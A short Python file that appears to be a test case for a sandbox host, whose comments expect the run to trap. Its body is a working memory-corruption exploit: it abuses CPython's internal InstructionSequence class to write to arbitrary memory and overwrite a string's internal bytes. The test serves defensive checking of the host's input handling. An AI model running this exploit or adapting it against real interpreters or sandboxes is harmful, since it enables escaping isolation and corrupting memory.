# attack: finish with a str whose characters were overwritten: ASCII by its flags, 0x80 by its bytes
# fence: the host decodes what a guest hands over as if it were hostile: it is no UTF-8, so the run traps (SEMANTICS 13)
# screened: S105
# step: deploy attack [] => halt TRAP
# step: deploy attack ["honest"] => success 'abcdabcdabcd'
class Pen:
    def __init__(self, value):
        self.sequence = next(c for c in object.__subclasses__() if c.__name__ == "InstructionSequence")()
        block = bytes(20)
        self.at = id(block)
        block = None
        self.sequence.use_label(0)
        for _ in range(value):
            self.sequence.addop(1, 0, 0, 0, 0, 0)

    def write(self, address):
        offset = (address - self.at) >> 2
        self.sequence.use_label(offset - 2**30 if offset >= 0 else offset)


text = "".join(["abcd"] * 3)
if not args:
    pen = Pen(0x80)
    honest = text.encode()
    place = id(text) + 16
    while text.encode("latin-1") == honest:
        place += 4
        pen.write(place)
finish(text)
